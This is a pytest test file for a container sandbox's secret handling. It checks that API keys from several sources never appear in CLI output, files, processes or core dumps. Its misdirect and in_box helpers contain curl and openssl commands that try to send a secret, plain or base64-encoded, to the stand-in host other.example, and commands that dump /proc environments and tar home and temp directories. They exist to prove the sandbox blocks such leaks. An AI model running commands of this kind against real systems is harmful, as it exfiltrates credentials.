"""After a busy day with secrets from every source, none of their values is anywhere but where it is kept."""

from __future__ import annotations

import hashlib
import os
import secrets
import signal
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.support import contract
from tests.support.installation import until
from tests.support.leaks import Search, forms

if TYPE_CHECKING:
    from tests.support.internet import Online

pytestmark = pytest.mark.box
ENGINES = contract.WITH_GVISOR

ALLOW = ("--allow-host", "allowed.example", "--allow-host", "other.example")
SOURCES = ("stored", "shell", "printed", "filed")
PLACES = "$HOME /tmp /dev/shm /run/paddock/denials.jsonl $PWD"


def fresh() -> str:
    """With characters that a URL spells in another way."""
    return f"live+/{secrets.token_hex(12)}="


class Day:
    """An installation with a secret of each source; everything that its commands say is kept."""

    def __init__(self, online: Online, place: Path) -> None:
        self.online, self.place = online, place
        self.now = {source: fresh() for source in SOURCES} | {"printed": f"live-{secrets.token_hex(14)}"}  # also a name
        self.ever = set(self.now.values())
        self.said = b""
        self.write("printed")
        self.write("filed")
        how = {"stored": (), "shell": ("--from-env", "MY_KEY"), "filed": ("--file", str(place / "filed"))}
        how["printed"] = ("--from-command", f"cat {place / 'printed'}")
        for source in SOURCES:
            words = ("--host", "allowed.example", "--header", "X-Api-Key", "--env", f"KEY_{source}".upper())
            stdin = self.now[source].encode() if source == "stored" else b""
            assert self.cli("secret", "set", source, *words, *how[source], stdin=stdin).returncode == 0

    def cli(self, *words: str, stdin: bytes = b"", exported: bool = True) -> subprocess.CompletedProcess[bytes]:
        done = self.online.cli(*words, stdin=stdin, env={"MY_KEY": self.now["shell"]} if exported else {})
        self.said += done.stdout + done.stderr
        return done

    def write(self, source: str) -> None:
        path = self.place / source
        path.touch(0o600)
        path.write_text(self.now[source] + "\n")

    def ask(self, times: int = 1, *, exported: bool = True) -> bytes:
        """What the box hears when it uses every secret."""
        requests = "".join(f"{self.request(source)};" for source in SOURCES)
        script = f"for i in $(seq {times}); do {requests} done"
        return self.cli("exec", "busy", "sh", "-c", script, exported=exported).stdout

    def request(self, source: str) -> str:
        wanted = hashlib.sha256(self.now[source].encode()).hexdigest()
        key = f'"X-Api-Key: $KEY_{source.upper()}"'
        return f"curl -sS -m 20 -H {key} https://allowed.example/guarded/{wanted}"

    def rotate(self) -> None:
        for source in ("stored", "filed"):
            self.now[source] = fresh()
            self.ever.add(self.now[source])
        self.write("filed")
        assert self.cli("secret", "set", "stored", stdin=self.now["stored"].encode()).returncode == 0
        assert self.cli("secret", "check").returncode == 0


def misdirect(day: Day) -> None:
    """Whatever a box can do wrong with placeholders, and with a value that it was told."""
    leaked = day.now["stored"]
    script = f"""
        for word in "$KEY_STORED" '{leaked}' "$(printf %s '{leaked}' | base64)"; do
            curl -sS -m 20 -H "X-Api-Key: $word" http://other.example/
            curl -sS -m 20 -H "X-Api-Key: $word" http://allowed.example/
            curl -sS -m 20 -u "x:$word" "https://allowed.example/a?b=$word"
            curl -sS -m 20 -H "Host: other.example" -H "X-Api-Key: $word" https://allowed.example/
            curl -sS -m 20 -L -H "X-Api-Key: $word" https://allowed.example/elsewhere
            curl -sS -m 20 -H "X-Api-Key: $word" "https://$word.allowed.example/"
        done
        name={day.now["printed"]}
        curl -sS -m 20 "https://$name.allowed.example/"
        curl -sS -m 20 -X $name "https://allowed.example/$name"
        curl -sS -m 20 -X $name "http://other.example/$name"
        curl -sS -m 20 "http://$name/"
        printf 'GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\n X: %s\\r\\n\\r\\n' "$KEY_FILED" >/tmp/raw
        openssl s_client -quiet -connect allowed.example:443 </tmp/raw
    """
    told = day.online.cli("exec", "-i", "busy", "sh", stdin=script.encode())  # not as an argument, which `ps` shows
    assert b"secret-misdirected" in told.stdout
    assert Search([day.now["filed"]]).has(told.stdout + told.stderr) is False


def crash(day: Day) -> None:
    gateway = day.online.status()["gateway_pid"]
    assert isinstance(gateway, int)
    os.kill(gateway, signal.SIGKILL)
    until(lambda: day.online.status()["gateway_pid"] not in {gateway, None}, "another gateway serves")
    assert day.ask() == b"welcome\n" * 4
    day.online.kill_daemon()
    asked = day.ask(exported=False)
    assert asked.count(b"welcome\n") == 3, "what came from the shell is gone with the daemon"
    again = day.cli("run", "--name", "busy", *ALLOW, "--", "sh", "-c", day.request("shell"))
    assert again.stdout == b"welcome\n", again.stderr


def shown(day: Day) -> bytes:
    """What every command says that shows something."""
    for words in (
        ("ls", "--json"),
        ("inspect", "--json", "busy"),
        ("inspect", "--plan", "busy"),
        ("network", "log", "--json", "busy"),
        ("network", "log", "busy"),
        ("usage", "--json"),
        ("logs", "busy"),
        ("secret", "ls", "--json"),
        ("secret", "check", "--json"),
        ("env", "busy"),
        ("daemon", "status", "--json"),
        ("doctor", "--json"),
        ("secret", "set", "stored", day.now["stored"]),  # a user's mistake is not repeated
    ):
        day.cli(*words)
    return day.said


def in_box(day: Day) -> bytes:
    script = f"env; cat /proc/*/environ /proc/*/cmdline /proc/*/comm; tar cf - {PLACES}"
    return day.online.cli("exec", "busy", "sh", "-c", f"({script}) 2>/dev/null").stdout


def core_limit(pid: int) -> int:
    limits = Path(f"/proc/{pid}/limits").read_text()
    return int(limits.split("Max core file size")[1].split()[1].replace("unlimited", "-1")) % (1 << 64)


def test_after_a_busy_day_no_value_is_anywhere_but_where_it_is_kept(online: Online, tmp_path: Path) -> None:
    day = Day(online, tmp_path)
    uses = (word for source in SOURCES for word in ("--secret", source))
    assert day.cli("run", "--name", "busy", *uses, *ALLOW, "--", "true").returncode == 0
    job = f"while sleep 0.2; do {day.request('printed')}; done"
    assert day.cli("exec", "-d", "busy", "sh", "-c", job).returncode == 0
    assert day.ask(5) == b"welcome\n" * 20
    misdirect(day)
    day.rotate()
    assert day.ask() == b"welcome\n" * 4
    crash(day)

    search = Search(day.ever)
    assert not search.has(shown(day))
    assert not search.has(in_box(day))
    assert search.files(online.home) == []
    assert search.files(online.workspace) == []
    assert search.processes() == []
    status = online.status()
    for pid in (status["pid"], status["gateway_pid"]):
        assert isinstance(pid, int)
        assert core_limit(pid) <= 1, "no dump of it is written, nor given to a program that collects them"

    placeholder = Search([day.online.cli("exec", "busy", "sh", "-c", "echo $KEY_STORED").stdout.decode().strip()])
    assert placeholder.has(in_box(day))
    assert [Path(path).name for path in placeholder.files(online.home)] == ["secrets.json"]
    assert_found_where_planted(day, search)


def assert_found_where_planted(day: Day, search: Search) -> None:
    """The same search finds a value in every form and at every place."""
    value = day.now["stored"]
    for form in forms(value):
        planted = day.online.home / "state" / "planted"
        planted.write_bytes(b"x" + form)
        assert search.files(day.online.home) == [str(planted)]
        planted.unlink()
    words = [sys.executable, "-c", "input()"]
    for argv, env in (([*words, value], {}), (words, {"A": value})):
        with subprocess.Popen(argv, env=env, stdin=subprocess.PIPE) as process:
            until(lambda pid=process.pid: any(f"/{pid}/" in path for path in search.processes()), "it is seen")  # type: ignore[misc]
            process.communicate(b"\n")
    for line in ("cat >/tmp/planted", "rm /tmp/planted; export A=$(cat); sleep 600 >/dev/null 2>&1 &"):
        day.online.cli("exec", "-i", "busy", "sh", "-c", line, stdin=value.encode())
        assert search.has(in_box(day))
